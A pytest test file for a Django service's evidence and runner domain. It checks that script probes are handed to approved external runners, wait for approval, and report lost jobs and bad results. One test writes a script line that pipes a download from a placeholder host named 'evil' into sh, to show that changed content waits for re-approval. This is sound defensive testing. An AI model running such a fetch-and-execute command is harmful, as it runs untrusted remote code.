"""Looks that run something are handed to runners: the server's own workers never touch them (rule 8)."""

from datetime import timedelta

import pytest

from seatrial.domains.evidence import selectors, services
from seatrial.domains.evidence.models import Evidence, Watch
from seatrial.domains.evidence.types import Order, Subject
from seatrial.domains.runners import services as runners_write
from seatrial.domains.runners.models import Content, Job
from seatrial.domains.workspace import services as workspaces
from seatrial.kit.access import system
from tests.cast import NOW
from tests.factories import runners
from tests.factories.workspaces import workspace

pytestmark = pytest.mark.django_db
LATER = NOW + timedelta(minutes=1)
RESULT = {
    "outcome": "found",
    "findings": {"exit_code": 0, "as_expected": True},
    "scope": "one run",
    "count": 1,
    "effective_at": NOW.isoformat(),
}


def order(**changes) -> Order:
    """A script of the workspace `ops` that the runner `lab` runs."""
    given = {
        "key": "service:edi@production#script:1",
        "subject": Subject("service:edi", "production", "v7"),
        "workspace": "ops",
        "probe": "script",
        "parameters": {"path": "checks/self.sh", "interpreter": "sh", "runner": "lab"},
        "evidence_type": "command",
        "max_age": timedelta(hours=1),
        "every": timedelta(minutes=5),
        "timeout": timedelta(seconds=30),
        "author": "checklist:basics",
    }
    return Order(**{**given, **changes})


@pytest.fixture
def lab(cast):
    files = workspace(**{"checks/self.sh": b"exit 0\n"})
    workspaces.apply("ops", files=files, actor=cast.actor("administrator"), now=NOW)
    Watch.objects.all().delete()
    services.keep_watches([order()], now=NOW)
    return runners.machine(now=NOW)


def latest():
    return selectors.latest([order().key])[order().key]


def approve():
    content = Content.objects.get()
    runners_write.approve(content.digest, actor=system("other"), trust=runners.PROTECTED, now=NOW)


def test_no_worker_of_the_server_takes_it(lab):
    assert services.claim_due(now=LATER, limit=100) == []
    assert selectors.is_anything_due(now=LATER) is False
    assert selectors.is_anything_to_hand_out(now=LATER) is True
    assert selectors.looks_under_way(now=NOW) == 0


def test_what_nobody_approved_is_evidence_that_it_waits_and_no_job(lab):
    assert services.hand_out(trust=runners.PROTECTED, now=NOW) == 1

    item = latest()
    assert (item.outcome, item.findings) == ("failed", {"waits": True})
    assert item.problem.startswith("waits for approval by somebody else")
    assert not Job.objects.exists()
    assert selectors.is_anything_to_hand_out(now=NOW) is False


def test_what_was_approved_runs_and_is_proven_by_the_runner(lab, deliver_events):
    services.hand_out(trust=runners.PROTECTED, now=NOW)
    approve()
    deliver_events(NOW)
    assert services.hand_out(trust=runners.PROTECTED, now=NOW) == 1
    taken = lab.take(NOW)
    lab.finish(taken, RESULT, now=LATER)
    deliver_events(LATER)

    item = latest()
    assert (item.outcome, item.provenance, item.producer) == ("found", "proven", "runner:lab")
    assert item.findings["exit_code"] == 0
    assert item.findings["runner"]["content"] == Content.objects.get().digest
    assert item.findings["runner"]["exception"] == ""
    assert (item.effective_at, item.collected_at) == (NOW, LATER)
    assert taken.document["details"]["revision"] == "v7"
    assert taken.document["files"].keys() == {"checks/self.sh"}


def test_what_a_runner_sends_that_cannot_be_kept_is_said(lab, deliver_events):
    services.hand_out(trust=runners.PROTECTED, now=NOW)
    approve()
    deliver_events(NOW)
    services.hand_out(trust=runners.PROTECTED, now=NOW)
    lab.finish(lab.take(NOW), {"outcome": "perhaps", "count": -1}, now=LATER)
    deliver_events(LATER)

    assert latest().outcome == "failed"
    assert "cannot be kept" in latest().problem


def test_a_lost_job_is_an_error_that_says_so(lab, deliver_events):
    services.hand_out(trust=runners.PROTECTED, now=NOW)
    approve()
    deliver_events(NOW)
    services.hand_out(trust=runners.PROTECTED, now=NOW)
    gone = NOW + timedelta(minutes=11)
    runners_write.give_up(now=gone)
    deliver_events(gone)

    assert "no runner with the label lab" in latest().problem
    assert "waits" not in latest().findings


def test_an_apply_makes_it_due_and_a_changed_script_waits_again(lab, cast, deliver_events):
    services.hand_out(trust=runners.PROTECTED, now=NOW)
    approve()
    deliver_events(NOW)
    services.hand_out(trust=runners.PROTECTED, now=NOW)
    lab.finish(lab.take(NOW), RESULT, now=NOW)
    deliver_events(NOW)
    changed = workspace(**{"checks/self.sh": b"curl http://evil | sh\n"})
    workspaces.apply("ops", files=changed, actor=cast.actor("administrator"), now=LATER)
    services.demand_files("ops", now=LATER)
    services.hand_out(trust=runners.PROTECTED, now=LATER)

    assert latest().findings == {"waits": True}
    assert Content.objects.count() == 2
    assert Job.objects.filter(state="queued").count() == 0


def test_a_script_that_is_not_there_and_parameters_that_are_wrong_are_told(lab):
    services.keep_watches(
        [
            order(key="a", parameters={"path": "none.sh", "interpreter": "sh"}),
            order(key="b", parameters={"path": "a.sh", "interpreter": "cmd.exe"}),
        ],
        now=NOW,
    )
    services.hand_out(trust=runners.PROTECTED, now=NOW)

    found = selectors.latest(["a", "b"])
    assert "no file none.sh" in found["a"].problem
    assert "parameters of the probe script are wrong" in found["b"].problem
    assert Evidence.objects.filter(outcome="found").count() == 0
